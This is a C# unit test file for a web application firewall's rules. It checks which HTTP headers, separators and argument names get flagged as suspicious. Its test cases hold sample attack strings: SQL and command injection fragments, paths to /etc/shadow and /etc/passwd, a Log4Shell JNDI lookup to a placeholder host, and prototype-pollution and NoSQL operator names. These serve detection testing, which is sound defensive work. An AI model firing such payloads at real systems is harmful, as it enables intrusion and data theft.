using System.Text;
using WafOperator.Http;
using WafOperator.Scoring.Parts;

namespace WafOperator.Scoring.Tests.Parts;

/// <summary>The same tables as models/training/tests/test_data.py: both sides must take the same parts.</summary>
public sealed class PartRulesTests
{
    [Theory]
    [InlineData("x-forwarded-for", "10.0.0.1, 2001:db8::1", false)]
    [InlineData("x-forwarded-for", "1) and (1=1", true)]
    [InlineData("x-real-ip", "1 or sleep 5 #", true)]
    [InlineData("x-forwarded-host", "shop.example:8080", false)]
    [InlineData("x-original-url", "/a/b", false)]
    [InlineData("x-original-url", "/a?b=c", true)]
    [InlineData("authorization", "Basic YTpi==", false)]
    [InlineData("authorization", "Bearer 1)));iif(1,1,1/0)", true)]
    [InlineData("accept", "text/html;q=0.9, */*", false)]
    [InlineData("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:1.0)", false)]
    [InlineData("user-agent", "1 or 1=1", true)]
    [InlineData("referer", "http://a/b?c=d&e=(f)#g", false)]
    [InlineData("referer", "http://a/?b=%u2215x", true)]
    [InlineData("cache-control", "max-age=0", false)]
    [InlineData("sec-ch-ua", "(x);v=1", false)]
    [InlineData("x-plan", "gold", false)]
    [InlineData("x-file", "/etc/shadow", true)]
    [InlineData("x-run", "a; id", true)]
    [InlineData("x-run", "a%3Bid", true)]
    [InlineData("x-trace", "00-4bf9-01, a=b", false)]
    public void IsOddHeader_ByKind(string name, string value, bool expected) =>
        Assert.Equal(expected, PartRules.IsOddHeader(Encoding.UTF8.GetBytes(name), Encoding.UTF8.GetBytes(value)));

    [Theory]
    [InlineData(";", true)]
    [InlineData("\"", true)]
    [InlineData("||", true)]
    [InlineData("\"\"\"", true)]
    [InlineData("\t", true)]
    [InlineData("", false)]
    [InlineData("..", false)]
    [InlineData("...", false)]
    [InlineData("../", false)]
    [InlineData("'='", false)]
    [InlineData("';#", false)]
    [InlineData(";w", false)]
    [InlineData("----", false)]
    [InlineData("\u00a7", false)]
    public void IsSeparator_IsPunctuationThatCanDoNothing(string value, bool expected) =>
        Assert.Equal(expected, PartRules.IsSeparator(Encoding.UTF8.GetBytes(value)));

    [Theory]
    [InlineData(PartKind.QueryArgument, "q", "")]
    [InlineData(PartKind.QueryArgument, "user.name", "")]
    [InlineData(PartKind.QueryArgument, "class.module.loader", "class.module.loader")]
    [InlineData(PartKind.BodyArgument, "__proto__[x]", "__proto__[x]")]
    [InlineData(PartKind.BodyArgument, "search[$where]", "search[$where]")]
    [InlineData(PartKind.BodyArgument, "json.a.b.c.d", "")]
    [InlineData(PartKind.BodyArgument, "json.user.$ne", "$ne")]
    [InlineData(PartKind.BodyArgument, "json.a.__proto__.b", "__proto__")]
    [InlineData(PartKind.QueryArgument, "json.user.$ne", "json.user.$ne")]
    [InlineData(PartKind.BodyArgument, "json.a b.plain.c;id.d", "a b|c;id")]
    [InlineData(PartKind.BodyArgument, "json.../../etc/passwd", "../../etc/passwd")]
    [InlineData(PartKind.BodyArgument, "json.a.${jndi:ldap://x.example/a}.b", "${jndi:ldap://x.example/a}")]
    [InlineData(PartKind.BodyArgument, "json.x;a.y;b.z", "x;a.y;b")]
    [InlineData(PartKind.BodyArgument, "json.a..b.", "")]
    [InlineData(PartKind.BodyArgument, "json.", "")]
    public void OddNames_AreTheScoredPartsOfAName(PartKind kind, string name, string expected)
    {
        var bytes = Encoding.UTF8.GetBytes(name);
        var found = new List<string>();
        for (var from = 0; PartRules.TryNextOddName(kind, bytes, ref from, out var odd);)
        {
            found.Add(Encoding.UTF8.GetString(bytes[odd]));
            Assert.Equal(found[^1], Encoding.UTF8.GetString(PartRules.OddNameAt(kind, bytes, odd.Start.Value)));
        }

        Assert.Equal(expected, string.Join('|', found));
    }
}
